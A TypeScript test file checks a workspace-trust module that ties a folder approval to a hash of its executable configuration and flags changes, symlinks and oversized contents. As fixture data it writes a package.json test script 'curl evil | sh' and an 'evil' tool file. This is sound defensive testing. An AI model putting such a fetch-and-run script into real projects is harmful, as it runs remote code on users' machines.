import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import { systemClock } from "../../daemon/host/clock.ts";
import { EXECUTABLE_CONFIGURATION, readConfiguration } from "../../daemon/security/executable-configuration.ts";
import { createTrust } from "../../daemon/security/trust.ts";
import { nexusError } from "../../protocol/index.ts";
import { collectingAudit, memoryTrust } from "../support/guard.ts";
import { collectingLog, openTestStore } from "../support/store.ts";

function workspace(files: Readonly<Record<string, string>> = {}) {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "nexus-trust-")));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  const write = (path: string, text: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  };
  for (const [path, text] of Object.entries(files)) write(path, text);
  return { root, write };
}

const BY = { by: "client:test", why: "because" };

describe("trust", () => {
  it("is undecided, then bound to what the folder configures, and names what changed", async () => {
    const { root, write } = workspace({
      "package.json": '{"scripts":{"test":"node t.js"}}',
      "AGENTS.md": "Be kind.\n",
    });
    const audit = collectingAudit();
    const trust = memoryTrust(audit);
    expect(await trust.look(root)).toMatchObject({ state: "undecided", decided: null });
    const { hash } = await trust.look(root);
    expect(await trust.decide(root, { ...BY, trusted: true, hash })).toMatchObject({ state: "trusted", changed: [] });
    write("package.json", '{"scripts":{"test":"node t.js"},"version":"2.0.0","dependencies":{"a":"1"}}');
    write("src/code.ts", "code changes every day");
    expect((await trust.look(root)).state).toBe("trusted");
    write("package.json", '{"scripts":{"test":"curl evil | sh"}}');
    write(".nexus/tools/evil.mjs", "evil");
    rmSync(join(root, "AGENTS.md"));
    const changed = await trust.look(root);
    expect(changed.state).toBe("changed");
    expect(changed.changed).toEqual([".nexus/tools/evil.mjs", "AGENTS.md", "package.json"]);
    expect(audit.entries).toMatchObject([
      { event: "trust", verdict: "approved", actor: "client:test", approvalHash: hash },
    ]);
    await trust.decide(root, { ...BY, trusted: false });
    expect(await trust.look(root)).toMatchObject({ state: "untrusted" });
    expect(audit.entries.at(-1)).toMatchObject({ verdict: "rejected" });
  });

  it("holds for the folder as it was shown, not for what it has become since", async () => {
    const { root, write } = workspace({ "AGENTS.md": "a" });
    const trust = memoryTrust();
    const { hash } = await trust.look(root);
    write("AGENTS.md", "b");
    await expect(trust.decide(root, { ...BY, trusted: true, hash })).rejects.toMatchObject({
      value: { code: "trust.changed" },
    });
  });

  it.each(EXECUTABLE_CONFIGURATION.map((place) => [place.path, place] as const))(
    "is asked again when %s comes, changes or goes",
    async (path, { below, keys }) => {
      const { root, write } = workspace();
      const file = below === true ? `${path}/deep/file` : path;
      const text = (word: string) => (keys === undefined ? word : JSON.stringify({ scripts: { test: word } }));
      const hashes = [(await readConfiguration(root)).hash];
      for (const word of ["one", "two"]) {
        write(file, text(word));
        hashes.push((await readConfiguration(root)).hash);
      }
      expect(new Set(hashes).size).toBe(3);
      rmSync(join(root, file));
      expect((await readConfiguration(root)).hash).toBe(hashes[0]);
    },
  );

  it("looks into the packages of a repository of several", async () => {
    const { root, write } = workspace({
      "package.json": '{"workspaces":["packages/*","../out","tools/one","/etc/*"]}',
      "packages/a/package.json": '{"scripts":{"test":"a"}}',
      "tools/one/package.json": '{"scripts":{"test":"b"}}',
    });
    const { files, hash } = await readConfiguration(root);
    expect(files.map(({ path }) => path)).toEqual([
      "package.json",
      "packages/a/package.json",
      "tools/one/package.json",
    ]);
    write("packages/a/package.json", '{"scripts":{"test":"evil"}}');
    expect((await readConfiguration(root)).hash).not.toBe(hash);
  });

  it.skipIf(process.platform === "win32")("names a link and does not follow it", async () => {
    const outside = workspace({ "x/evil.mjs": "1" });
    const { root } = workspace();
    symlinkSync(join(outside.root, "x"), join(root, ".nexus"));
    const { files, hash } = await readConfiguration(root);
    expect(files.map(({ path }) => path)).toEqual([".nexus"]);
    outside.write("x/evil.mjs", "2");
    expect((await readConfiguration(root)).hash).toBe(hash);
    rmSync(join(root, ".nexus"));
    symlinkSync(outside.root, join(root, ".nexus"));
    expect((await readConfiguration(root)).hash).not.toBe(hash);
  });

  it("never binds itself to more than it can read", async () => {
    const { root, write } = workspace();
    for (let index = 0; index < 1001; index++) write(`.nexus/rules/${index}.md`, "x");
    const trust = memoryTrust();
    await expect(trust.decide(root, { ...BY, trusted: true })).rejects.toMatchObject({
      value: { code: "trust.unbound" },
    });
    expect((await trust.look(root)).state).toBe("undecided");
    const large = workspace({ "AGENTS.md": "" });
    truncateSync(join(large.root, "AGENTS.md"), 5 * 1024 * 1024);
    const before = await readConfiguration(large.root);
    large.write("AGENTS.md", "y".repeat(5 * 1024 * 1024));
    expect((await readConfiguration(large.root)).hash).not.toBe(before.hash);
  });

  it("is kept over restarts, and no longer holds when its row is damaged", async () => {
    const { root } = workspace({ "AGENTS.md": "a" });
    const opened = await openTestStore();
    const logged: string[] = [];
    const parts = { audit: collectingAudit(), clock: systemClock, log: collectingLog(logged) };
    await createTrust({ rows: opened.store.trust, ...parts }).decide(root, { ...BY, trusted: true });
    const store = await opened.reopen();
    expect((await createTrust({ rows: store.trust, ...parts }).look(root)).state).toBe("trusted");
    const damaged = {
      put: store.trust.put,
      get: () => Promise.reject(nexusError("store.corrupt")),
    };
    expect((await createTrust({ rows: damaged, ...parts }).look(root)).state).toBe("untrusted");
    expect(logged).toHaveLength(1);
  });

  it("says when there is no such folder", async () => {
    await expect(memoryTrust().look("/no/such/folder")).rejects.toMatchObject({ value: { code: "workspace.missing" } });
  });
});
